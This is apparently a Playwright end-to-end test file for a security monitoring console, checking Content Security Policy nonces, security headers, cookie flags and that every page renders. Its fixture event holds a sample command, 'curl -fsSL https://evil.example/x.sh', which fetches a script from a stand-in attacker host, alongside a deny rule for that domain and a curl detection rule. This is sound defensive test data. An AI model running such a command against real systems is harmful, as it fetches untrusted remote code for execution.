import { randomBytes } from "node:crypto";
import { readdirSync } from "node:fs";
import path from "node:path";
import { expect, request as requestFactory, test, type APIResponse } from "@playwright/test";
import { Client } from "pg";
import { createAgentToken, createTenant, createUser } from "./support/factories";
import { settle, watchPageProblems } from "./support/page-problems";
import { signIn } from "./support/sign-in";

// Browser safety (issue 15, section 4): every page renders under a nonce-based CSP with no
// violation and no console error; pages and API routes carry the security headers; cookies are
// HttpOnly and SameSite=Lax, and Secure over https.

async function query<T>(sql: string, params: unknown[]): Promise<T[]> {
  const client = new Client({ connectionString: process.env.DATABASE_URL });
  await client.connect();
  try {
    return (await client.query(sql, params)).rows as T[];
  } finally {
    await client.end();
  }
}

/** Every page route under app/ ("/events/[id]"), route groups left out. */
function pageRoutes(dir = path.join(process.cwd(), "app"), prefix = ""): string[] {
  const routes: string[] = [];
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    if (entry.isFile() && entry.name === "page.tsx") routes.push(prefix || "/");
    if (!entry.isDirectory() || (prefix === "" && entry.name === "api")) continue;
    const segment = /^\(.*\)$/.test(entry.name) ? "" : `/${entry.name}`;
    routes.push(...pageRoutes(path.join(dir, entry.name), prefix + segment));
  }
  return routes;
}

function directives(csp: string | undefined): Map<string, string[]> {
  return new Map((csp ?? "").split(";").map((d) => d.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources]));
}

function expectCommonHeaders(headers: Record<string, string>) {
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["referrer-policy"]).toBe("same-origin");
  expect(headers["permissions-policy"]).toContain("camera=()");
  expect(headers["x-frame-options"]).toBe("DENY");
  expect(headers["strict-transport-security"]).toBeUndefined();
}

function setCookies(res: APIResponse): string[] {
  return res.headersArray().filter((h) => h.name.toLowerCase() === "set-cookie").map((h) => h.value);
}

function ingestEvent(suffix: string) {
  const at = new Date(Date.now() - 5 * 60_000).toISOString();
  return {
    id: `csp-${suffix}`,
    kind: "detections",
    created_at: at,
    agent: { id: `agent-${suffix}`, hostname: "csp-runner-1" },
    data: {
      head: { name: "badware_domain_access", importance: "high", description: "Known bad domain contacted" },
      process: { exe: "/usr/bin/curl", cmd: "curl -fsSL https://evil.example/x.sh", pid: 4242, ppid: 1, start: at },
      flow: {
        proto: "TCP",
        ip_version: 4,
        local: { address: "10.0.0.5", port: 50123 },
        remote: { address: "203.0.113.9", port: 443, names: ["203.0.113.9", "evil.example"] },
        settings: { direction: "egress", status: "ended" },
      },
    },
  };
}

test("every page renders under the CSP without a violation or a console error", async ({ page }) => {
  const problems = await watchPageProblems(page);
  const tenant = await createTenant("CSP SOC");
  const admin = await createUser([{ tenantId: tenant.id, role: "admin" }], "Ada Admin");
  const token = await createAgentToken(tenant.id);
  const suffix = randomBytes(3).toString("hex");
  const ingest = await page.request.post("/api/v1/ingest/garnet", { headers: { authorization: `Bearer ${token}` }, data: [ingestEvent(suffix)] });
  expect(ingest.status()).toBe(200);
  const [event] = await query<{ id: string }>(`SELECT id FROM events WHERE tenant_id = $1`, [tenant.id]);
  const [issue] = await query<{ id: string }>(`SELECT id FROM issues WHERE tenant_id = $1`, [tenant.id]);
  const [policy] = await query<{ id: string }>(
    `INSERT INTO network_policies (tenant_id, scope, scope_ref, mode) VALUES ($1, 'cluster', 'prod-eu', 'log') RETURNING id`,
    [tenant.id],
  );
  await query(`INSERT INTO network_policy_rules (tenant_id, policy_id, type, value, action, reason, created_by) VALUES ($1, $2, 'domain', 'evil.example', 'deny', 'csp test', 'user:e2e')`, [
    tenant.id,
    policy.id,
  ]);

  const [ruleSet] = await query<{ id: string }>(
    `INSERT INTO rule_sets (tenant_id, ruleset_id, created_by, updated_by) VALUES ($1, 'csp/rules', 'user:e2e', 'user:e2e') RETURNING id`,
    [tenant.id],
  );
  const [rule] = await query<{ id: string }>(
    `INSERT INTO detection_rules (tenant_id, rule_set_id, position, rule_id, event_type, condition, action) VALUES ($1, $2, 0, 'curl', 'process_exec', 'process.exec_path.endsWith("/curl")', 'collect') RETURNING id`,
    [tenant.id, ruleSet.id],
  );

  // A new page is a failure until it is listed here with a URL to visit.
  const urls: Record<string, string> = {
    "/": "/",
    "/signin": "/signin",
    "/events": "/events",
    "/events/[id]": `/events/${event.id}`,
    "/issues": "/issues",
    "/issues/[id]": `/issues/${issue.id}`,
    "/policies": "/policies",
    "/policies/[id]": `/policies/${policy.id}`,
    "/rules": "/rules",
    "/rules/new": "/rules/new",
    "/rules/[id]/new": `/rules/${ruleSet.id}/new`,
    "/rules/[id]/[ruleId]": `/rules/${ruleSet.id}/${rule.id}`,
    "/dashboard": "/dashboard",
    "/agents": "/agents",
    "/admin": "/admin",
    "/account": "/account",
    "/docs/api": "/docs/api",
  };
  expect(pageRoutes().sort()).toEqual(Object.keys(urls).sort());

  await page.goto("/signin");
  await settle(page);
  await signIn(page, admin);
  for (const url of Object.values(urls)) {
    if (url === "/signin") continue; // signed in, it redirects; it was visited signed out above
    const res = await page.goto(url);
    expect(res?.status(), url).toBe(200);
    // The API reference stands outside the console's shell.
    if (url === "/docs/api") await expect(page.getByRole("heading", { name: /Vigil API/ })).toBeVisible({ timeout: 20_000 });
    else await expect(page.getByRole("navigation", { name: "Main" })).toBeVisible();
    await settle(page);
  }
  // Client-side navigation (RSC requests through the proxy) and a page that is not there.
  await page.goto("/events");
  for (const label of ["Issues", "Policies", "Dashboard", "Events"]) {
    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: label }).click();
    await settle(page);
  }
  const missing = await page.goto("/issues/999999999");
  expect(missing?.status()).toBe(404);
  await settle(page);
  // The document's own 404 is the one error a missing page may log.
  const rest = problems.filter((p) => !(p.includes("/issues/999999999") && p.includes("status of 404")));
  expect(rest).toEqual([]);
});

test("a page carries a fresh nonce on its scripts and the security headers", async ({ page, request }) => {
  const first = await page.goto("/signin");
  const headers = first!.headers();
  const csp = directives(headers["content-security-policy"]);
  const nonce = /^'nonce-(.+)'$/.exec(csp.get("script-src")?.find((s) => s.startsWith("'nonce-")) ?? "")?.[1];
  expect(nonce).toBeTruthy();
  expect(csp.get("script-src")).not.toContain("'unsafe-inline'");
  expect(csp.get("script-src")).not.toContain("'unsafe-eval'");
  expect(csp.get("frame-ancestors")).toEqual(["'none'"]);
  expect(csp.get("object-src")).toEqual(["'none'"]);
  expect(csp.has("upgrade-insecure-requests")).toBe(false);
  expectCommonHeaders(headers);

  // Every script Next.js rendered carries this response's nonce (browsers hide it from getAttribute).
  const nonces = await page.evaluate(() => [...document.scripts].map((s) => s.nonce));
  expect(nonces.length).toBeGreaterThan(0);
  expect(new Set(nonces)).toEqual(new Set([nonce]));
  const again = await request.get("/signin");
  expect(again.headers()["content-security-policy"]).not.toContain(`'nonce-${nonce}'`);

  // Behind a TLS proxy: HSTS, and plain-http subresources upgraded.
  const https = await request.get("/signin", { headers: { "x-forwarded-proto": "https" } });
  expect(https.headers()["strict-transport-security"]).toBe("max-age=31536000; includeSubDomains");
  expect(directives(https.headers()["content-security-policy"]).has("upgrade-insecure-requests")).toBe(true);
});

test("API routes answer problem+json with the API's headers; ingest stays outside the proxy", async ({ request }) => {
  const health = await request.get("/api/health");
  expect(health.status()).toBe(200);
  expect(health.headers()["content-security-policy"]).toBe("default-src 'none'; frame-ancestors 'none'");
  expectCommonHeaders(health.headers());

  const events = await request.get("/api/v1/events");
  expect(events.status()).toBe(401);
  expect(events.headers()["content-type"]).toBe("application/problem+json");
  expect(events.headers()["content-security-policy"]).toBe("default-src 'none'; frame-ancestors 'none'");
  expectCommonHeaders(events.headers());
  const unknown = await request.get("/api/v1/nope");
  expect(unknown.status()).toBe(404);
  expect(unknown.headers()["content-type"]).toBe("application/problem+json");
  const https = await request.get("/api/health", { headers: { "x-forwarded-proto": "https" } });
  expect(https.headers()["strict-transport-security"]).toBe("max-age=31536000; includeSubDomains");

  const ingest = await request.post("/api/v1/ingest/garnet", { data: {} });
  expect(ingest.status()).toBe(401);
  expect(ingest.headers()["content-type"]).toBe("application/problem+json");
  expect(ingest.headers()["content-security-policy"]).toBeUndefined();
});

test("session and tenant cookies are HttpOnly and SameSite=Lax, and Secure only over https", async ({ page, baseURL }) => {
  const red = await createTenant("Red Team");
  const blue = await createTenant("Blue Team");
  const user = await createUser([
    { tenantId: red.id, role: "analyst" },
    { tenantId: blue.id, role: "admin" },
  ]);
  await signIn(page, user);
  await page.getByTestId("tenant-switcher").selectOption({ label: "Blue Team (admin)" });
  await expect(page.getByTestId("tenant-switcher")).toHaveValue(blue.slug);
  const names = ["next-auth.session-token", "next-auth.csrf-token", "vigil_tenant"];
  // The switch sets its cookie in a server action, after the select has changed.
  await expect.poll(async () => (await page.context().cookies()).filter((c) => names.includes(c.name)).length).toBe(names.length);
  for (const cookie of (await page.context().cookies()).filter((c) => names.includes(c.name))) {
    expect(cookie, cookie.name).toMatchObject({ httpOnly: true, sameSite: "Lax", secure: false });
  }

  // Over https (as a TLS proxy reports it) the same sign-in sets Secure cookies under the
  // __Host-/__Secure- names, and the session they hold is the one pages and the API read.
  const https = await requestFactory.newContext({ baseURL, extraHTTPHeaders: { "x-forwarded-proto": "https" } });
  try {
    const csrf = await https.get("/api/auth/csrf");
    const csrfCookie = setCookies(csrf).find((c) => c.startsWith("__Host-next-auth.csrf-token="));
    expect(csrfCookie).toMatch(/; HttpOnly/i);
    expect(csrfCookie).toMatch(/; Secure/i);
    expect(csrfCookie).toMatch(/; SameSite=Lax/i);
    const signedIn = await https.post("/api/auth/callback/credentials", {
      headers: { cookie: csrfCookie!.split(";")[0] },
      form: { csrfToken: (await csrf.json()).csrfToken, email: user.email, password: user.password, json: "true" },
      maxRedirects: 0,
    });
    const session = setCookies(signedIn).find((c) => c.startsWith("__Secure-next-auth.session-token="));
    expect(session).toMatch(/; HttpOnly/i);
    expect(session).toMatch(/; Secure/i);
    expect(session).toMatch(/; SameSite=Lax/i);
    const api = await https.get("/api/v1/issues", { headers: { cookie: session!.split(";")[0] } });
    expect(api.status()).toBe(200);
  } finally {
    await https.dispose();
  }
});
